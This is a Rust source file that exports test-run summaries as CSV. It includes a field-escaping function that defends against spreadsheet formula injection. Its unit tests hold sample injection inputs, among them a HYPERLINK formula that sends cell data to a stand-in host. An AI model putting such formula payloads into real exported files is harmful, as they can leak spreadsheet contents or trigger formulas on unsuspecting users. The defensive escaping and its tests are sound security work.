//! The CSV form of a Summary: one row per test, with a header (and a history's columns). The
//! CLI's `--format csv` and the app's "Export CSV" both write this.

use std::borrow::Cow;
use std::io::{self, Write};

use crate::model::durations::exact_ms;
use crate::model::summary::Summary;

/// The header row. Durations are in milliseconds with three decimals (exact microseconds),
/// empty for a test none of whose runs had one. The failure rate (failed over passed + failed)
/// and its 95% Wilson interval come last, empty for a test with no judged run.
pub const CSV_HEADER: &str = "name,runs,passed,failed,skipped,other,missing,pass_rate,first_failure_file,\
first_failure_line,timed_runs,total_ms,min_ms,p50_ms,p95_ms,max_ms,failure_rate,failure_rate_ci95_low,\
failure_rate_ci95_high";

/// The columns a history's CSV appends to [`CSV_HEADER`] (a summary of no builds has none):
/// each test's row across builds (§2, "History"), builds by label, empty where there is none.
pub const CSV_HISTORY_HEADER: &str = "builds_run,builds_failed,builds_flaky,first_build,last_build,\
failing_since,last_passed,change_point_build,change_point_p_value";

impl Summary {
    /// One row per test in order of first appearance, after a header (RFC 4180 quoting).
    pub fn to_csv(&self) -> String {
        let mut out = Vec::with_capacity(64 * (self.tests().len() + 1));
        self.write_csv(&mut out).expect("a Vec takes any bytes");
        String::from_utf8(out).expect("the rows are text")
    }

    /// Writes [`Summary::to_csv`]'s rows to `out`, one at a time.
    pub fn write_csv(&self, out: &mut impl Write) -> io::Result<()> {
        let history = self.history();
        let labels = history.map(|h| h.labels()).unwrap_or_default();
        match history {
            Some(_) => writeln!(out, "{CSV_HEADER},{CSV_HISTORY_HEADER}")?,
            None => writeln!(out, "{CSV_HEADER}")?,
        }
        for (i, test) in self.tests().iter().enumerate() {
            let c = &test.counts;
            write!(
                out,
                "{},{},{},{},{},{},{},",
                field(&test.name),
                c.runs(),
                c.passed,
                c.failed,
                c.skipped,
                c.other,
                c.missing
            )?;
            if let Some(r) = c.pass_rate() {
                write!(out, "{r:.6}")?;
            }
            match test.first_failure() {
                Some(l) => write!(out, ",{},{}", field(self.file_name(l)), l.line)?,
                None => write!(out, ",,")?,
            }
            match test.durations() {
                Some(d) => write!(
                    out,
                    ",{},{},{},{},{},{}",
                    d.runs(),
                    exact_ms(d.total()),
                    exact_ms(d.min()),
                    exact_ms(d.p50()),
                    exact_ms(d.p95()),
                    exact_ms(d.max())
                )?,
                None => write!(out, ",,,,,,")?,
            }
            match (c.failure_rate(), c.failure_rate_ci95()) {
                (Some(rate), Some([low, high])) => write!(out, ",{rate:.6},{low:.6},{high:.6}")?,
                _ => write!(out, ",,,")?,
            }
            if let Some(h) = history {
                let r = h.test(i, h.alpha);
                let label = |b: Option<u32>| b.map_or(Cow::Borrowed(""), |b| field(&labels[b as usize]));
                write!(
                    out,
                    ",{},{},{},{},{},{},{},",
                    r.builds_run,
                    r.builds_failed,
                    r.builds_flaky,
                    label(r.first_build),
                    label(r.last_build),
                    label(r.failing_since),
                    label(r.last_passed)
                )?;
                match r.change_point {
                    Some(cp) => write!(out, "{},{:e}", label(Some(cp.build)), cp.p_value)?,
                    None => write!(out, ",")?,
                }
            }
            writeln!(out)?;
        }
        Ok(())
    }
}

/// A field as written, so that no cell a spreadsheet makes of it starts a formula (OWASP's
/// "CSV Injection"): a field that starts with `=`, `+`, `-`, `@`, a tab, a carriage return or a
/// line feed (a test named `=HYPERLINK(…)` is a link to anywhere once the CSV is opened) gets a
/// `'` before it, which spreadsheets read as "text follows", and is quoted. A field that holds a
/// separator a spreadsheet may split on (`,`, or `;` and tab where a locale or the user picks
/// them: `a;=HYPERLINK(…)` was two cells, the second a formula), a quote or a line break is quoted
/// (RFC 4180, quotes doubled), so that no cell starts inside it. Everything else is exact.
fn field(s: &str) -> Cow<'_, str> {
    let formula = s.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']);
    if formula || s.contains([',', ';', '\t', '"', '\n', '\r']) {
        let text = if formula { "'" } else { "" };
        Cow::Owned(format!("\"{text}{}\"", s.replace('"', "\"\"")))
    } else {
        Cow::Borrowed(s)
    }
}

#[cfg(test)]
mod tests {
    use super::field;

    // Expected values written by hand from OWASP's rule (no cell may start with `=`, `+`, `-`,
    // `@`, tab, CR or LF; a separator or a quote must not let one start inside a field; its
    // remedy: quote the field, put `'` first, double the quotes), with its own two examples.
    #[test]
    fn owasps_examples() {
        assert_eq!(field("=1+2\";=1+2"), "\"'=1+2\"\";=1+2\"");
        assert_eq!(field("=1+2'\" ;,=1+2"), "\"'=1+2'\"\" ;,=1+2\"");
    }

    #[test]
    fn a_formula_after_a_separator_stays_inside_its_quoted_cell() {
        assert_eq!(field("a;=HYPERLINK(\"http://x/?\"&A1)"), "\"a;=HYPERLINK(\"\"http://x/?\"\"&A1)\"");
        assert_eq!(field("a;=1+2"), "\"a;=1+2\"");
        assert_eq!(field("x,+cmd"), "\"x,+cmd\"");
        assert_eq!(field("x\t-2+3"), "\"x\t-2+3\"");
        assert_eq!(field("x;@SUM(A1)"), "\"x;@SUM(A1)\"");
        assert_eq!(field("x\r\n=1"), "\"x\r\n=1\"");
        // Parametrized names keep their exact text.
        assert_eq!(field("test_add[1,-2]"), "\"test_add[1,-2]\"");
    }

    #[test]
    fn a_formula_at_the_start_gets_a_quote_mark() {
        assert_eq!(field("=HYPERLINK(\"x\")"), "\"'=HYPERLINK(\"\"x\"\")\"");
        assert_eq!(field("+1"), "\"'+1\"");
        assert_eq!(field("-1"), "\"'-1\"");
        assert_eq!(field("@SUM(A1)"), "\"'@SUM(A1)\"");
        assert_eq!(field("\t=1"), "\"'\t=1\"");
        assert_eq!(field("\r=1"), "\"'\r=1\"");
        assert_eq!(field("\n=1"), "\"'\n=1\"");
    }

    #[test]
    fn other_fields_are_exact() {
        for text in ["", "plain", "a b", "a=b", "x-1", "x+1", "a@b", "it's", "ünïcode ✓", "a|=b"] {
            assert_eq!(field(text), text);
        }
    }
}
